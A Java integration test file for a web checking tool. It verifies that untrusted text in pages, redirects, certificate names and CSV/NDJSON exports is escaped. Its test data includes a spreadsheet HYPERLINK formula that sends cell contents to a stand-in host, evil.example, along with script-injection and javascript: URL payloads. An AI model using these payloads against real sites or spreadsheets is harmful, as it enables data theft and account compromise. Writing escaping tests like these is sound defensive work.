package dev.plumbline.e2e.web;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import dev.plumbline.account.Plan;
import dev.plumbline.account.TestAccounts;
import dev.plumbline.lab.CertificateSpec;
import dev.plumbline.lab.TestCa;
import dev.plumbline.lab.TlsServers;
import dev.plumbline.support.Await;
import dev.plumbline.support.CookieClient;
import dev.plumbline.support.PlainTextAssert;
import dev.plumbline.support.SampleModule;
import dev.plumbline.support.ServiceUnderTest;
import dev.plumbline.support.TestDatabase;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Untrusted text from lines, servers and certificates is escaped in pages and files. */
@Tag("integration")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PageEscapingTest {
    @RegisterExtension
    static final TestDatabase DATABASE = new TestDatabase();

    private static final String EMAIL = "owner@plumbline.example";
    private static final String PASSWORD = "a long enough password";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    private static final List<String> LINES =
            List.of("bad.example", "invalid.example", "good.example", SampleModule.HOSTILE, FORMULA);

    private final TlsServers tls = new TlsServers();
    private ServiceUnderTest service;
    private CookieClient owner;
    private String job = "";

    @BeforeAll
    void start(@TempDir Path folder) {
        TestAccounts accounts = new TestAccounts(DATABASE.open());
        accounts.account(EMAIL, Plan.PRO, PASSWORD);
        service = SampleModule.startBehindProxy(folder, DATABASE);
        owner = new CookieClient(service);
        assertThat(owner.signIn(EMAIL, PASSWORD).statusCode()).isEqualTo(200);
        HttpResponse<String> created =
                owner.bulk("bulk-tool", "sample-module", "bulk-lines", String.join("\n", LINES), "label", "x");
        job = created.headers().firstValue("Location").orElseThrow();
        Await.until(() -> !page(job).select("[data-finished=true]").isEmpty());
    }

    @AfterAll
    void stop() {
        service.close();
        tls.close();
    }

    private Document page(String path) {
        return Jsoup.parse(owner.page(path).body());
    }

    private static String report(String module, String target) {
        return "/check/" + module + "/" + URLEncoder.encode(target, StandardCharsets.UTF_8);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "?verdict=fail",
                "?sort=input&dir=desc",
                "?sort=kind",
                "?q=%3Cscript%3E",
                "/live",
                "/live?q=%22%3E%3Cimg%20src%3Dx%3E"
            })
    void linesAndResultsAreEscaped(String part) {
        Document page = page(job + part);

        PlainTextAssert.assertPlainText(page);
        assertThat(page.select("#job-lines, #job-state")).hasSize(2);
    }

    @Test
    void tableDisplaysHostileInput() {
        Document page = page(job);

        assertThat(page.select(".lines .input > a").eachText())
                .containsExactly(
                        "bad.example", "invalid.example", "good.example", PlainTextAssert.HOSTILE_DISPLAYED, FORMULA);
        assertThat(page.select(".lines .input p").first().text())
                .isEqualTo("The text is " + PlainTextAssert.HOSTILE_DISPLAYED);
        assertThat(page.select(".lines tbody tr:nth-child(2) td").eachText())
                .contains(PlainTextAssert.HOSTILE_DISPLAYED);
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2, 3, 4})
    void storedResultsAreEscaped(int index) {
        Document page = page(job + "/lines/" + index);

        PlainTextAssert.assertPlainText(page);
        assertThat(page.select(".verdict")).hasSize(1);
    }

    @Test
    void chartsHaveOnlyDeclaredLabels() {
        Document page = page(job);

        assertThat(page.select(".chart figcaption").eachText()).contains("Verdicts", "Lookup", "Sampled at");
        assertThat(page.select(".chart dt").eachText())
                .allSatisfy(label -> assertThat(label).matches("Pass|Warning|Fail|Error|one|other|[0-9]+"));
        assertThat(page.select(".charts").text()).doesNotContain("script", "U+202E");
        assertThat(page.select(".charts title").eachText()).isNotEmpty().allSatisfy(label -> assertThat(label)
                .matches("[0-9A-Za-z .:]+"));
    }

    /** URLs can contain any text. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/check?target=",
                "/check?tool=",
                "/tools?q=",
                "/tools/",
                "/check/http-status/",
                "/check/sample-module/",
                "/check/",
                "/check/sample-module/good.example?label=",
                "/check/sample-module/good.example?",
                "/jobs?cursor=",
                "/jobs/",
                "/jobs/job_0/lines/",
                "/bulk?tool=",
                "/sign-in?next=",
                "/account?done=",
                "/account/keys/",
                "/"
            })
    void urlParametersAreEscaped(String path) {
        String address = path + URLEncoder.encode(SampleModule.HOSTILE, StandardCharsets.UTF_8);
        Document page = Jsoup.parse(service.page(
                        address,
                        "Accept",
                        "text/html",
                        "Cookie",
                        path.startsWith("/sign-in") ? "none=0" : owner.cookie())
                .body());
        // the value of an input element is the submitted text
        page.select("input[value]").removeAttr("value");

        PlainTextAssert.assertPlainText(page);
        assertThat(page.select("main")).hasSize(1);
    }

    @Test
    void untrustedTextInSentencesHasNoExtraSpace() {
        assertThat(page("/check?target=two+words")
                        .select("[role=alert] p")
                        .first()
                        .text())
                .isEqualTo("two words is not a valid target. A hostname must not contain a space.");
        assertThat(page("/tools?q=certificate").select("main [role=status]").text())
                .matches("[0-9]+ tools? for certificate\\. Clear search");
    }

    @Test
    void controlCharactersOfATargetAreNamed() {
        for (String path : List.of("/check/a%00b", "/check/http-status/a%00b")) {
            assertThat(page(path).select("input[name=target]").val()).isEqualTo("a[U+0000]b");
        }
    }

    @Test
    void jobListAndFormAreEscaped() {
        PlainTextAssert.assertPlainText(page("/jobs"));
        Document again = Jsoup.parse(
                owner.form("/bulk", "bulk-lines", "</textarea><b>" + FORMULA + "\n".repeat(2) + "x".repeat(3000))
                        .body());

        PlainTextAssert.assertPlainText(again);
        assertThat(again.select("main b")).isEmpty();
        assertThat(again.select("#bulk-lines").val()).startsWith("</textarea><b>" + FORMULA);
    }

    @Test
    void csvHasOneRecordPerLineAndNoFormula() {
        HttpResponse<String> file = owner.page(job + "/results.csv");
        List<NamedCsvRecord> records =
                CsvReader.builder().ofNamedCsvRecord(file.body()).stream().toList();

        isADownload(file, ".csv");
        assertThat(records).hasSize(LINES.size());
        assertThat(records.get(0).getField("input")).isEqualTo("bad.example");
        assertThat(records.get(0).getField("text")).isEqualTo(SampleModule.HOSTILE);
        assertThat(records.get(3).getField("input")).isEqualTo(SampleModule.HOSTILE);
        assertThat(records.get(4).getField("input")).isEqualTo("'" + FORMULA);
    }

    @Test
    void ndjsonHasOneLinePerLine() {
        HttpResponse<String> file = owner.page(job + "/results.ndjson");

        isADownload(file, ".ndjson");
        assertThat(file.body().lines().map(JsonObject::new).map(line -> line.getString("input")))
                .containsExactlyElementsOf(LINES);
        assertThat(file.body()).doesNotContain("\u0007");
    }

    private void isADownload(HttpResponse<String> file, String ending) {
        assertThat(file.headers().firstValue("Content-Disposition"))
                .contains("attachment; filename=\"" + job.substring("/jobs/".length()) + ending + "\"");
        assertThat(file.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(file.headers().firstValue("Content-Type").orElse("")).doesNotContain("html");
    }

    @Test
    void redirectTargetsAreEscaped() {
        String place = "/\u202egnp.<script>alert(1)</script>\"'><img/src=x/onerror=alert(2)>";
        int port = tls.respond(
                Buffer.buffer("HTTP/1.1 302 Found\r\nServer: <b>\"'\u0007\r\nLocation: javascript:alert(1)//"
                                + place
                                + "\r\nContent-Type: text/html<script>\r\nContent-Length: 0\r\n"
                                + "Connection: close\r\n\r\n")
                        .getBytes());
        int other = tls.respond(Buffer.buffer("HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:"
                        + port
                        + place
                        + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                .getBytes());

        Document page = page(report("http-status", "http://127.0.0.1:" + other + "/"));

        PlainTextAssert.assertPlainText(page);
        assertThat(page.select("main [href]").eachAttr("href"))
                .allSatisfy(href -> assertThat(href).doesNotStartWith("javascript:"));
        assertThat(page.select("#field-redirects .path > li").size()).isPositive();
    }

    @Test
    void certificateNamesAreEscaped() {
        String name = "<script>alert(1)</script>\u202egnp.exe\u0007";
        int port = tls.serve(
                TestCa.selfSigned(
                        CertificateSpec.commonNameOnly(name.replace("<", "\\<").replace(">", "\\>"))),
                TlsServers.ServerOptions.DEFAULT);

        Document page = page(report("ssl-certificate", "127.0.0.1:" + port));

        PlainTextAssert.assertPlainText(page);
        assertThat(page.select("main").text()).contains("<script>alert(1)</script>[U+202E]gnp.exe[U+0007]");
    }
}
